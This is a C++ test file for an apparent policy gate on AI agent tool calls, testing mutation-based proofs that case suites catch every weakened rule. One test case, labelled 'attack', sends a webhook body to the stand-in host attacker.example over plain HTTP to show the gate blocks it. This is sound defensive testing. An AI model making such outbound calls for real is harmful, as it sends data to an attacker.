#include "lab/prove.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <set>
#include <stdexcept>
#include <string>

#include "cases/load_cases.h"
#include "lab/builtin_suite.h"
#include "lab/equivalence.h"
#include "lab/kill_matrix.h"
#include "lab/starter_suite.h"
#include "lab/suite.h"
#include "lab/weaken.h"
#include "os/scratch_folder.h"
#include "policy/load.h"

namespace yett {
namespace {

using testing::HasSubstr;
using testing::IsEmpty;

constexpr TimePoint kNow{std::chrono::sys_days(std::chrono::year(2026) / 11 / 30)};

constexpr std::string_view kHead = R"(
[policy]
name = "t"
version = 1
[session]
permissions = "full access"
may_choose = ["read-only"]
[limits]
calls_per_minute = 60
sends_per_run = 5
)";

PolicyRef policy_of(const std::string& rest) {
  auto policy = parse_policy(std::string(kHead) + rest, "t.toml");
  if (!policy) throw std::runtime_error(policy.error().to_string());
  return *policy;
}

class Proving : public testing::Test {
 protected:
  ProofTerms terms() { return {.now = kNow, .card_parent = cards_.path(), .threads = 2}; }

  /// Made once for each policy: several tests ask for it.
  const std::vector<Case>& starter(const PolicyRef& policy) {
    static std::map<std::string, std::vector<Case>> made;
    const auto known = made.find(policy->digest.hex());
    return known != made.end() ? known->second : made.emplace(policy->digest.hex(), make_starter(policy)).first->second;
  }

  std::vector<Case> make_starter(const PolicyRef& policy) {
    auto suite = starter_suite(policy, terms());
    if (!suite) throw std::runtime_error(suite.error().to_string());
    return *std::move(suite);
  }

  Proof proof(const PolicyRef& policy, const std::vector<Case>& suite) {
    auto made = prove(policy, suite, builtin_suite(policy, {.now = kNow, .card_folder = cards_.path()}), terms());
    if (!made) throw std::runtime_error(made.error().to_string());
    return *std::move(made);
  }

  static std::vector<std::string> names_of(const Proof& made, Fate fate) {
    std::vector<std::string> names;
    for (const MutantResult& mutant : made.mutants) {
      if (mutant.fate == fate) names.push_back(mutant.name);
    }
    return names;
  }

  ScratchFolder cards_ = *ScratchFolder::make("/dev/shm", "yett-prove-test");
};

/// Policies of different shapes: the starter suite of each kills every mutant that its lines allow.
const std::vector<std::string>& policies() {
  static const std::vector<std::string> kAll = {
      R"([tools]
look = { effect = "read", sensitivity = "private", reversible = true, tenant = ["tenant_id"], content = ["q"] }
mail = { effect = "send", sensitivity = "internal", reversible = false, destination.email = ["to"], content = ["subject"] }
hook = { effect = "send", sensitivity = "internal", reversible = true, destination.url = ["url"], content = ["body"] }
[egress]
email_domains = ["desk.example"]
hosts = ["hooks.desk.example"]
[approval]
unsigned = "a test"
)",
      R"([tools]
read_file = { effect = "read", sensitivity = "internal", reversible = true, path.read = ["path"], returns = "retrieved_document" }
save_file = { effect = "write", sensitivity = "internal", reversible = false, path.write = ["path"], content = ["text"] }
[paths.work]
root = "/srv/work"
access = "read-write"
[approval]
unsigned = "a test"
)",
      R"([tools.pay]
effect = "send"
sensitivity = "internal"
reversible = true
destination.payees = ["to"]
ask = { quorum = 2 }
content = ["note"]
[tools.list_payees]
effect = "read"
sensitivity = "internal"
reversible = true
[tools.push]
effect = "send"
sensitivity = "internal"
reversible = true
destination.repositories = { join = ["owner", "repo"] }
[destinations.payees]
kind = "id"
allow = ["DE89370400440532013000"]
[destinations.repositories]
kind = "id"
allow = ["acme/site"]
[approvers.olga]
key = "ed25519:11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo="
[approvers.paul]
key = "ed25519:PUAXw+hDiVqStwqnTRt+vJyYLM8uxJaMwM1V8Sr0Zgw="
[approval]
four_eyes = true
)",
      R"([flow]
private_to_outside = "deny"
[tools]
look = { effect = "read", sensitivity = "private", reversible = true, tenant = "single", content = ["q"], result_redact = ["email"] }
hook = { effect = "send", sensitivity = "internal", reversible = true, destination.url = ["url"], content = ["body"] }
meet = { effect = "send", sensitivity = "internal", reversible = true, destination.fixed = "participants", content = ["title"] }
[egress]
hosts = [{ host = "hooks.desk.example:8443", paths = ["/in/"] }]
[approval]
unsigned = "a test"
)",
      R"([tools.run]
effect = "execute"
sensitivity = "internal"
reversible = true
command.argv = ["argv"]
[[tools.run.commands]]
program = "/usr/bin/git"
subcommands = ["status"]
effect = "read"
[tools]
note = { effect = "write", sensitivity = "internal", reversible = true, content = ["text"] }
[approval]
unsigned = "a test"
)"};
  return kAll;
}

TEST_F(Proving, TheBuiltinCasesComeOutWellUnderEachPolicy) {
  for (const std::string& text : policies()) {
    const PolicyRef policy = policy_of(text);
    const std::vector<Case> library = builtin_suite(policy, {.now = kNow, .card_folder = cards_.path()});
    Trial trial({.engine = GateEngine::strict(), .policy = policy}, {.now = kNow, .card_folder = cards_.path()});
    for (const Case& played : library) {
      const CaseTrace trace = trial.play(played);
      EXPECT_TRUE(came_out_well(played, trace))
          << text << played.name << ": " << (trace.calls.empty() ? "?" : trace.calls.back().unmet);
    }
  }
}

TEST_F(Proving, AStarterSuiteLeavesNoSurvivor) {
  for (const std::string& text : policies()) {
    const PolicyRef policy = policy_of(text);
    const Proof made = proof(policy, starter(policy));
    EXPECT_THAT(names_of(made, Fate::Survived), IsEmpty()) << text;
    EXPECT_THAT(names_of(made, Fate::Redundant), IsEmpty()) << text;
    EXPECT_THAT(names_of(made, Fate::Void), IsEmpty()) << text;
  }
}

TEST_F(Proving, AStarterSuiteHasNothingToSpare) {
  for (const std::string& text : policies()) {
    const PolicyRef policy = policy_of(text);
    const std::vector<Case> suite = starter(policy);
    EXPECT_THAT(KillMatrix::of(policy, suite, terms())->needless(), IsEmpty()) << text;
  }
}

TEST_F(Proving, WithoutACaseAMutantSurvivesAndTheCaseIsTheOneThatIsNamed) {
  const PolicyRef policy = policy_of(policies().front());
  std::vector<Case> suite = starter(policy);
  std::erase_if(suite, [](const Case& one) { return one.name == "hook: url without TLS"; });
  const Proof made = proof(policy, suite);
  ASSERT_THAT(names_of(made, Fate::Survived), testing::ElementsAre("rule-off: destination.scheme"));
  const auto survivor = std::ranges::find(made.mutants, Fate::Survived, &MutantResult::fate);
  ASSERT_TRUE(survivor->would_kill);
  EXPECT_EQ(survivor->would_kill->name, "hook: url without TLS");
}

TEST_F(Proving, OneThreadAndTwoFindTheSame) {
  const PolicyRef policy = policy_of(policies().front());
  const std::vector<Case> suite = starter(policy);
  ProofTerms alone = terms();
  alone.threads = 1;
  const auto one = prove(policy, suite, builtin_suite(policy, {.now = kNow, .card_folder = cards_.path()}), alone);
  const Proof two = proof(policy, suite);
  ASSERT_EQ(one->mutants.size(), two.mutants.size());
  for (std::size_t i = 0; i < two.mutants.size(); ++i) {
    EXPECT_EQ(one->mutants[i].name, two.mutants[i].name);
    EXPECT_EQ(one->mutants[i].fate, two.mutants[i].fate);
    EXPECT_EQ(one->mutants[i].by, two.mutants[i].by);
  }
}

/// Another rule stops the attack, and no case says which one it has to be.
TEST_F(Proving, WhatAnotherRuleStopsIsRedundantAndNamed) {
  const PolicyRef policy = policy_of(policies().front());
  const auto suite = load_cases(R"([[case]]
name = "without TLS to an attacker"
kind = "attack"
session = { tenant = "acme" }
[[case.call]]
tool = "hook"
arguments = { url = "http://attacker.example/", body = "b" }
harm = true
)",
                                "s.toml", *policy);
  ASSERT_TRUE(suite);
  const Proof made = proof(policy, *suite);
  const auto scheme = std::ranges::find(made.mutants, "rule-off: destination.scheme", &MutantResult::name);
  EXPECT_EQ(scheme->fate, Fate::Redundant);
  EXPECT_THAT(scheme->by, HasSubstr("destination.unlisted"));
}

TEST_F(Proving, ProgressIsToldToTheEnd) {
  const PolicyRef policy = policy_of(policies()[1]);
  ProofTerms told = terms();
  std::size_t last = 0;
  std::size_t all = 0;
  told.told = [&](std::size_t done, std::size_t of) {
    EXPECT_EQ(done, ++last);
    all = of;
  };
  const auto made = prove(policy, {}, {}, told);
  ASSERT_TRUE(made);
  EXPECT_EQ(last, made->mutants.size());
  EXPECT_EQ(all, made->mutants.size());
}

TEST_F(Proving, FailsWhereNoCardCanLie) {
  ProofTerms nowhere = terms();
  nowhere.card_parent = "/dev/shm/yett-no-such-folder";
  const PolicyRef policy = policy_of(policies()[1]);
  EXPECT_FALSE(prove(policy, {}, {}, nowhere));
  EXPECT_FALSE(starter_suite(policy, nowhere));
}

/// What a mutant says of itself counts only where it can be shown.
TEST_F(Proving, WhatIsSaidWrongIsFoundOut) {
  const PolicyRef policy = policy_of(policies().front());
  const std::vector<Case> library = builtin_suite(policy, {.now = kNow, .card_folder = cards_.path()});
  const Defence strict{.engine = GateEngine::strict(), .policy = policy};
  const Abstraction abstraction(strict, library, kNow);
  EXPECT_TRUE(abstraction.ever_hears(RuleId::DestinationUnlisted));
  EXPECT_FALSE(abstraction.ever_hears(RuleId::PathOutside));
  const auto all = [](const Case&) { return true; };
  EXPECT_TRUE(abstraction.is_judged_alike_by(strict, all));
  for (const RuleId rule : {RuleId::SessionSuspended, RuleId::ToolChanged, RuleId::PermissionSource,
                            RuleId::TenancyNoTenant, RuleId::FlowPrivateToOutside, RuleId::ApprovalDangerous}) {
    const RuleId only[] = {rule};
    const Defence weaker{.engine = Weakening::gate(Weakening::without(only), "t"), .policy = policy};
    EXPECT_FALSE(abstraction.is_judged_alike_by(weaker, all)) << to_string(rule);
  }
}

/// Each mutant that is idle says why, and the policies show it; none that is killed says so.
TEST_F(Proving, NoMutantThatSaysItIsIdleIsKilled) {
  for (const std::string& text : policies()) {
    const PolicyRef policy = policy_of(text);
    const std::vector<Case> suite = starter(policy);
    const std::vector<Mutant> mutants = make_mutants(*policy, suite);
    const Proof made = proof(policy, suite);
    ASSERT_EQ(mutants.size(), made.mutants.size());
    for (std::size_t i = 0; i < mutants.size(); ++i) {
      EXPECT_EQ(!mutants[i].idle_because.empty(), made.mutants[i].fate == Fate::Equivalent) << mutants[i].name << text;
    }
  }
}

TEST(Mutants, NamesDiffer) {
  for (const std::string& text : policies()) {
    std::set<std::string> names;
    for (const Mutant& mutant : make_mutants(*policy_of(text), {})) {
      EXPECT_TRUE(names.insert(mutant.name).second) << mutant.name;
    }
  }
}

}  // namespace
}  // namespace yett
